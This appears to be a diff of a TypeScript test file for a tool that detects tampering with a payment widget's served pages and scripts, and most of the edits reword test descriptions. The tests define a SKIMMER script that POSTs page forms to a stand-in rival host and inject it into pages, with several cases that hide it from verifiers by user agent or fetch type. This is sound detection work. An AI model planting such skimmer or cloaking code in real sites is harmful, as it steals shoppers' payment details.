@@ -103,7 +103,7 @@ const BLOCK_TABLE = BLOCK_ENDS.flatMap((end): [what: string, tamper: Tamper, nam
     ofPage(inBlock(end)),
     end.startsWith('<!') ? ['bytes-changed'] : ['meta-added', 'bytes-changed'],
   ],
-  [`markup in that of who checks a receipt, behind ${end}`, ofFile(CHECK, inBlock(end)), ['bytes-changed']],
+  [`markup in that of a receipt’s check, behind ${end}`, ofFile(CHECK, inBlock(end)), ['bytes-changed']],
 ]);
 
 const SKIMMER = `<script>fetch("${RIVAL}",{method:"POST",body:document.forms})</script>`;
@@ -263,11 +263,11 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
   ],
   ['another API in the configuration', html('"live": ""', `"live": "${RIVAL}"`), ['config-changed']],
   [
-    'another API for who checks a receipt',
+    'another API for those who check a receipt',
     ofFile(CHECK, text('"live": ""', `"live": "${RIVAL}"`)),
     ['config-changed'],
   ],
-  ['another script for who checks a receipt', ofFile(CHECK, append(SKIMMER)), ['bytes-changed']],
+  ['another script for those who check a receipt', ofFile(CHECK, append(SKIMMER)), ['bytes-changed']],
   [
     'a check of receipts by another policy',
     ofFile(
@@ -288,7 +288,7 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
     ['inline-script-added', 'bytes-changed'],
   ],
   [
-    'another page for what looks like a payer’s reference alone',
+    'another page only for what looks like a payer’s reference',
     (reply, { secure, url }) => (secure && /^\/(payments\/)?CHK_/.test(url) ? append(SKIMMER)(reply) : reply),
     ['inline-script-added', 'bytes-changed'],
   ],
@@ -302,7 +302,7 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
   ],
   ['another page at the root', ofFile('/', append(SKIMMER)), ['inline-script-added', 'bytes-changed']],
   [
-    'another script for who checks a receipt of the pro service',
+    'another script for those who check a receipt of the pro service',
     ofFile(`/payments${CHECK}`, append(SKIMMER)),
     ['bytes-changed'],
   ],
@@ -367,7 +367,7 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
     ['header-changed'],
   ],
   [
-    'frames of some pages alone',
+    'frames of only some pages',
     csp('base-uri', 'frame-ancestors https://a.example; base-uri'),
     ['csp-directive-added'],
   ],
@@ -464,7 +464,7 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
     ['header-changed'],
   ],
   [
-    'kobo.js for pages of this origin alone',
+    'kobo.js only for pages of this origin',
     ofFile('/kobo.js', without('access-control-allow-origin')),
     ['header-missing'],
   ],
@@ -573,7 +573,7 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
     ['http-not-redirected'],
   ],
   [
-    'a page without TLS for a payer’s reference alone',
+    'a page without TLS only for a payer’s reference',
     (reply, { secure, url }) =>
       secure || !url.startsWith('/CHK_') ? reply : { status: 200, headers: {}, body: Buffer.from(SKIMMER) },
     ['http-not-redirected'],
@@ -584,22 +584,22 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
     ['http-not-redirected'],
   ],
   [
-    'a skimmer for phones alone',
+    'a skimmer only for phones',
     onlyFor(agent(/Mobile/), html('</body>', `${SKIMMER}</body>`)),
     ['inline-script-added', 'served-differently', 'bytes-changed'],
   ],
   [
-    'a skimmer for everybody but who checks',
+    'a skimmer for everybody but those who check',
     onlyFor((headers) => headers['user-agent'] !== 'kobo-verify', ofFile(APP, append('0'))),
     ['bytes-changed', 'served-differently'],
   ],
   [
-    'a skimmer for who loads it as a script alone',
+    'a skimmer only where it is loaded as a script',
     onlyFor((headers) => headers['sec-fetch-dest'] === 'script', ofFile(APP, append('0'))),
     ['bytes-changed', 'served-differently'],
   ],
   [
-    'a kobo.js for the pages of merchants alone',
+    'a kobo.js only for the pages of merchants',
     onlyFor((headers) => headers['sec-fetch-site'] === 'cross-site', ofFile('/kobo.js', append('0'))),
     ['bytes-changed', 'served-differently'],
   ],
@@ -638,17 +638,17 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
     ['inline-script-added', 'served-differently', 'bytes-changed'],
   ],
   [
-    'a style for who loads it as one',
+    'a style only where it is loaded as one',
     onlyFor((headers) => headers['sec-fetch-dest'] === 'style', ofFile(STYLE, append('h1{display:none}'))),
     ['bytes-changed', 'served-differently'],
   ],
   [
-    'a skimmer within a frame of another site alone',
+    'a skimmer only within a frame of another site',
     onlyFor((headers) => headers['sec-fetch-dest'] === 'iframe', html('</body>', `${SKIMMER}</body>`)),
     ['inline-script-added', 'served-differently', 'bytes-changed'],
   ],
   [
-    'a skimmer in a window of its own alone',
+    'a skimmer only in a window of its own',
     onlyFor((headers) => headers['sec-fetch-dest'] === 'document', html('</body>', `${SKIMMER}</body>`)),
     ['inline-script-added', 'served-differently', 'bytes-changed'],
   ],
@@ -706,7 +706,7 @@ const inZstd = onlyFor(
   }),
 );
 
-/** What servers and those in front of them do that is no change of the release. */
+/** What servers and those in front of them do that does not change the release. */
 const HARMLESS: [what: string, tamper: Tamper][] = [
   ['nothing', (reply) => reply],
   ['a name of the server', header('server', 'nginx')],
@@ -720,7 +720,7 @@ const HARMLESS: [what: string, tamper: Tamper][] = [
   ],
   ['no other services', header('alt-svc', 'clear')],
   ...(zstdCompressSync ? [['zstd, where it is asked for', inZstd] satisfies (typeof HARMLESS)[number]] : []),
-  ['who was on the way', header('via', '1.1 varnish')],
+  ['the name of a proxy on the way', header('via', '1.1 varnish')],
   ['a number of the request', header('x-request-id', '7')],
   ['a file out of a cache', ofFile(APP, header('age', '3600'))],
   [
@@ -741,7 +741,7 @@ const HARMLESS: [what: string, tamper: Tamper][] = [
   ],
 ];
 
-describe('who checks', () => {
+describe('a check', () => {
   it('comes from a shop of a merchant, and from another one each time', async () => {
     const shops = new Set<string>();
     const listen: Tamper = (reply, { headers }) => {
